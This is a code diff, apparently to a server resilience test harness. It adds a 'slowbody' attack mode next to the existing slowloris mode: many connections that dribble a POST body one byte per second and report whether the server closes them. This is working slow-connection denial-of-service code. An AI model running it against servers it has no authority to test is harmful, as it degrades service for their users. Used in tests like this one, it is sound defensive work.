@@ -5,6 +5,9 @@ server did, and exits 0 (the scenario decides what is acceptable).
     attack.py slowloris HOST PORT --conns N --seconds S
         N connections each send one byte of a request header per second for up to S seconds.
         Reports how many the server closed, and after how long at most.
+    attack.py slowbody HOST PORT --conns N --seconds S
+        N connections each send whole headers of a POST declaring a 1 MB body, then one byte of
+        the body per second for up to S seconds. Reports like slowloris.
     attack.py idle HOST PORT --conns N --seconds S
         N connections that connect and send nothing, held S seconds.
     attack.py raw HOST PORT --data-file FILE [--timeout T]
@@ -40,11 +43,13 @@ def closed_by_peer(sock):
         sock.setblocking(True)
 
 
-def slowloris(args):
-    header = b"GET /api/health HTTP/1.1\r\nHost: x\r\nX-Padding: " + b"a" * 4096
+def slowloris(args, preamble=b"", header=None):
+    header = header or b"GET /api/health HTTP/1.1\r\nHost: x\r\nX-Padding: " + b"a" * 4096
     socks, opened_at = [], []
     for _ in range(args.conns):
         socks.append(connect(args.host, args.port))
+        if preamble:
+            socks[-1].sendall(preamble)
         opened_at.append(time.monotonic())
     closed_after = {}
     start = time.monotonic()
@@ -66,6 +71,12 @@ def slowloris(args):
         s.close()
     print(json.dumps({"conns": len(socks), "closed_by_server": len(closed_after),
                       "max_seconds_open": round(max(closed_after.values(), default=0), 1)}))
+
+
+def slowbody(args):
+    preamble = (b"POST /api/workers/heartbeat HTTP/1.1\r\nHost: x\r\n"
+                b"Content-Type: application/json\r\nContent-Length: 1000000\r\n\r\n")
+    slowloris(args, preamble=preamble, header=b"[" * 1000000)
 
 
 def idle(args):
@@ -128,7 +139,7 @@ def bigbody(args):
 def main():
     p = argparse.ArgumentParser()
     sub = p.add_subparsers(dest="cmd", required=True)
-    for name in ("slowloris", "idle"):
+    for name in ("slowloris", "slowbody", "idle"):
         c = sub.add_parser(name)
         c.add_argument("host")
         c.add_argument("port", type=int)
@@ -147,7 +158,7 @@ def main():
     c.add_argument("--send", type=int, required=True)
     c.add_argument("--header", action="append")
     args = p.parse_args()
-    {"slowloris": slowloris, "idle": idle, "raw": raw, "bigbody": bigbody}[args.cmd](args)
+    {"slowloris": slowloris, "slowbody": slowbody, "idle": idle, "raw": raw, "bigbody": bigbody}[args.cmd](args)
     sys.stdout.flush()
 
 
